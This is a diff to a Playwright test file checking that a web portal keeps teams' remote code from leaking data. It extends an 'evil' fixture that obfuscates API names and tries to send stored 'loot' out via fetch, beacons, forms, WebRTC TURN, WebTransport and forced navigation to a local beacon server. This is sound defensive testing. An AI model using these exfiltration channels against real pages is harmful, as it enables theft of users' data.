@@ -1,4 +1,5 @@
 import { expect, test as base, type Page } from '@playwright/test';
+import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -12,7 +13,7 @@ import { demoPassword } from '../harness/test.ts';
 const hidden = (text: string): string => `atob('${btoa(text)}')`;
 
 // Every way by which what a page knows could leave it.
-const leaks = (beacon: string): string => `
+const leaks = (beacon: string, port: number): string => `
 const beacon = ${hidden(beacon)};
 const outcomes = (globalThis.outcomes = {});
 const attempt = async (name, act) => {
@@ -41,26 +42,39 @@ const leakAll = async () => {
     const form = Object.assign(document.createElement('form'), { method: 'post', action: beacon + '/form', target: 'elsewhere' });
     document.body.append(form); form.submit();
   });
+  await attempt('webrtc', async () => {
+    const iceServers = [{ urls: 'turn:127.0.0.1:${port}', username: 'loot', credential: 'x' }];
+    const peer = (globalThis.peer = new globalThis[${hidden('RTCPeerConnection')}]({ iceServers }));
+    peer.createDataChannel('loot');
+    await peer.setLocalDescription();
+  });
+  await attempt('webtransport', async () => {
+    new globalThis[${hidden('WebTransport')}](${hidden(`https://127.0.0.1:${port}/`)}).ready.catch(() => undefined);
+  });
 };`;
 
 /** All of them, by the name under which they arrive. */
 const ways = [
   'background',
   'beacon',
+  'download',
   'events',
   'fetch',
   'form',
   'frame',
   'image',
+  'nav204',
   'ping',
   'prefetch',
   'script',
   'socket',
   'style',
+  'webrtc',
+  'webtransport',
 ];
 
 // Everything a team's code could try once it runs. Each attempt notes what became of it.
-const evil = (beacon: string): string => `
+const evil = (beacon: string, port: number): string => `
 const loot = JSON.parse(localStorage.getItem('loot') ?? '[]');
 const take = (what) => { loot.push(String(what)); localStorage.setItem('loot', JSON.stringify(loot)); };
 
@@ -77,7 +91,7 @@ const spy = () => {
   take('spying ' + typeof value);
 };
 
-${leaks(beacon)}
+${leaks(beacon, port)}
 const tryAll = async () => {
   spy();
   await leakAll();
@@ -103,24 +117,49 @@ export default { '/evil': { Component: Page, title: 'Evil', loader: async () => 
 
 interface Beacon {
   url: string;
+  /** Of the listener for what does not come by HTTP. */
+  port: number;
   hits: string[];
   stop: () => void;
 }
 
+// A user name is told to whoever asks for one: error 401, with a realm and a nonce.
+const challenge = (request: Buffer): Buffer =>
+  Buffer.concat([
+    Buffer.from([0x01, 0x13, 0, 24]),
+    request.subarray(4, 20),
+    Buffer.from('\0\x09\0\x04\0\0\x04\x01\0\x14\0\x04here\0\x15\0\x04once', 'latin1'),
+  ]);
+
+const listen = async (hits: string[]) => {
+  const socket = createSocket('udp4');
+  socket.on('message', (message, { port, address }) => {
+    // The first bit is set in the first packet of QUIC only.
+    if ((message[0] ?? 0) & 0x80) hits.push('/webtransport');
+    else if (message.includes('loot')) hits.push('/webrtc');
+    else socket.send(challenge(message), port, address);
+  });
+  socket.bind(0, '127.0.0.1');
+  await once(socket, 'listening');
+  return socket;
+};
+
+const answers: Record<string, [number, Record<string, string>]> = {
+  '/free': [200, { 'content-type': 'text/html' }],
+  '/nav204': [204, {}],
+  '/download': [200, { 'content-disposition': 'attachment' }],
+};
+
 const startBeacon = async (): Promise<Beacon> => {
   const hits: string[] = [];
-  const server = createServer((request, response) => {
-    hits.push(request.url ?? '');
-    const isFree = request.url === '/free';
-    response.writeHead(200, {
-      'access-control-allow-origin': '*',
-      ...(isFree && { 'content-type': 'text/html' }),
-    });
-    response.end(
-      isFree
-        ? `<body><script>${leaks('')}\nleakAll().then(() => { globalThis.isOver = true; });</script>`
-        : '',
-    );
+  const socket = await listen(hits);
+  const udp = socket.address().port;
+  const free = `<body><script>${leaks('', udp)}\nleakAll().then(() => { globalThis.isOver = true; });</script>`;
+  const server = createServer(({ url = '' }, response) => {
+    hits.push(url);
+    const [status, headers] = answers[url] ?? [200, {}];
+    response.writeHead(status, { 'access-control-allow-origin': '*', ...headers });
+    response.end(url === '/free' ? free : '');
   });
   server.on('upgrade', ({ url }, socket) => {
     hits.push(url ?? '');
@@ -129,7 +168,11 @@ const startBeacon = async (): Promise<Beacon> => {
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
   const { port } = server.address() as AddressInfo;
-  return { url: `http://localhost:${port}`, hits, stop: () => server.close() };
+  const stop = () => {
+    server.close();
+    socket.close();
+  };
+  return { url: `http://localhost:${port}`, port: udp, hits, stop };
 };
 
 const test = base.extend<object, { portal: Portal; beacon: Beacon }>({
@@ -143,14 +186,14 @@ const test = base.extend<object, { portal: Portal; beacon: Beacon }>({
   ],
   portal: [
     async ({ beacon }, use) => {
-      const portal = await startPortal();
+      const portal = await startPortal({ GUIDE_URL: `${beacon.url}/guide` });
       const store = join(portal.dataDir, 'remotes');
       publishFixture(
         {
           id: 'mf_evil',
           title: 'Evil',
           pages: [{ path: '/evil', access: 'public' }],
-          routes: evil(beacon.url),
+          routes: evil(beacon.url, beacon.port),
         },
         store,
       );
@@ -180,18 +223,68 @@ const ping = (page: Page, beacon: string): Promise<void> =>
     link.click();
   }, beacon);
 
+/** What sends something while the page stays as it is. */
+const unseen: Record<string, (to: string) => void> = {
+  nav204: (to) => location.assign(`${to}/nav204`),
+  download: (to) =>
+    Object.assign(document.createElement('a'), { href: `${to}/download`, download: 'loot' }).click(),
+};
+
+/** By what else a script leads away. */
+const scripted: Record<string, (to: string) => void> = {
+  ...unseen,
+  'in place of this page': (to) => location.replace(`${to}/nav204`),
+  'by its own name': (to) => void window.open(`${to}/nav204`, '_self'),
+  'by the history': (to) => void navigation.navigate(`${to}/nav204`).committed?.catch(() => undefined),
+  'by a pretended click': (to) => {
+    const link = Object.assign(document.createElement('a'), { href: `${to}/nav204` });
+    document.body.append(link);
+    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+  },
+  'after a moment': (to) =>
+    document.head.append(
+      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}/nav204` }),
+    ),
+  'from a frame of its own': (to) => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    frame.contentWindow?.parent.location.assign(`${to}/nav204`);
+  },
+  'to a page without the shell': () =>
+    location.assign(URL.createObjectURL(new Blob(['<p>bare</p>'], { type: 'text/html' }))),
+};
+
+/** Keeps the last navigation the page has seen begin; it hears first, so nobody keeps it from hearing. */
+const watchNavigations = (page: Page): Promise<unknown> =>
+  page.addInitScript(() => {
+    navigation.addEventListener('navigate', (event) => Object.assign(globalThis, { last: event }));
+  });
+
+/** Where the last one led, and what became of it, told once. */
+const lastNavigation = (page: Page): Promise<string> =>
+  page.evaluate(() => {
+    const watched = globalThis as unknown as { last?: NavigateEvent };
+    const { last } = watched;
+    watched.last = undefined;
+    return last ? `${last.destination.url} ${last.defaultPrevented ? 'refused' : 'begun'}` : 'none';
+  });
+
 const arrived = ({ hits }: Beacon): string[] =>
   [...new Set(hits.map((hit) => hit.slice(1)))].filter((name) => ways.includes(name)).sort();
 
-test('the control: from a page without the rules of the portal all of it leaves', async ({
-  page,
-  beacon,
-}) => {
+test('the control: from a page without the rules of the portal all of it leaves', async ({ page }) => {
+  // One of its own: what is sent by UDP is sent again, and would be taken for what a later test sent.
+  const beacon = await startBeacon();
   await page.goto(`${beacon.url}/free`);
   await isOver(page);
   await ping(page, beacon.url);
+  for (const [name, act] of Object.entries(unseen)) {
+    await page.evaluate(act, beacon.url);
+    await expect.poll(() => arrived(beacon)).toContain(name);
+  }
   await expect.poll(() => arrived(beacon)).toEqual(ways);
-  beacon.hits.length = 0;
+  expect(new URL(page.url()).pathname, 'nothing seen of it').toBe('/free');
+  beacon.stop();
 });
 
 test('a remote of a team runs, and nothing it takes leaves the portal', async ({ page, beacon }) => {
@@ -226,6 +319,8 @@ test('a remote of a team runs, and nothing it takes leaves the portal', async ({
       'style',
       'timer',
       'unhashed',
+      'webrtc',
+      'webtransport',
       'worker',
     ].sort(),
   );
@@ -238,12 +333,67 @@ test('a remote of a team runs, and nothing it takes leaves the portal', async ({
   );
 });
 
-test('what is left to it: it can take the person elsewhere, and say where from', async ({ page, beacon }) => {
+test('no script leads anywhere else, in sight or out of sight', async ({ page, beacon }) => {
+  await watchNavigations(page);
+  await visitEvil(page);
+  await lastNavigation(page);
+  await page.evaluate(() => {
+    Event.prototype.preventDefault = () => undefined;
+    for (const name of ['canIntercept', 'userInitiated', 'preventDefault'])
+      Reflect.defineProperty(NavigateEvent.prototype, name, { value: true });
+    Reflect.defineProperty(NavigationDestination.prototype, 'url', { value: 'blob:' });
+  });
+  for (const [name, act] of Object.entries(scripted)) {
+    await page.evaluate(act, beacon.url);
+    await expect.poll(() => lastNavigation(page), name).toMatch(/refused$/);
+  }
+  await page.goto('/about');
+  expect(arrived(beacon)).toEqual([]);
+});
+
+test('where people go themselves, they get', async ({ page, beacon }) => {
+  await watchNavigations(page);
+  await page.goto('/about');
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Guide' }).click();
+  await page.waitForURL(`${beacon.url}/guide`);
+  await page.goBack();
+  await expect(page.getByRole('heading', { level: 1, name: 'About' })).toBeVisible();
+  await page.goto('/guide');
+  await page.waitForURL(`${beacon.url}/guide`);
+  await page.goto('/contact');
+  await page.getByRole('link', { name: /@/ }).click();
+  expect(await lastNavigation(page)).toBe('mailto:contact@example.org begun');
+});
+
+test('what is left to it: a window it opens, a link somebody clicks, a peer from a frame', async ({
+  page,
+  beacon,
+}) => {
   await visitEvil(page);
   const opened = page.waitForEvent('popup');
   await page.evaluate((to) => void window.open(`${to}/opened?loot`), beacon.url);
   await opened;
-  await page.evaluate((to) => location.assign(`${to}/taken?loot`), beacon.url);
+  await page.evaluate(
+    ({ url, port, name }) => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const Peer = (frame.contentWindow as unknown as Record<string, typeof RTCPeerConnection>)[name];
+      if (!Peer) throw new Error('a frame without peers');
+      const urls = `turn:127.0.0.1:${port}`;
+      const peer = new Peer({ iceServers: [{ urls, username: 'loot', credential: 'x' }] });
+      Object.assign(globalThis, { peer });
+      peer.createDataChannel('loot');
+      void peer.setLocalDescription();
+      const link = Object.assign(document.createElement('a'), {
+        href: `${url}/taken?loot`,
+        textContent: 'More',
+      });
+      document.querySelector('main')?.append(link);
+    },
+    { url: beacon.url, port: beacon.port, name: 'RTCPeerConnection' },
+  );
+  await expect.poll(() => arrived(beacon)).toEqual(['webrtc']);
+  await page.getByRole('link', { name: 'More' }).click();
   await page.waitForURL(`${beacon.url}/taken?loot`);
   await expect
     .poll(() => beacon.hits.filter((hit) => hit.endsWith('?loot')).sort())
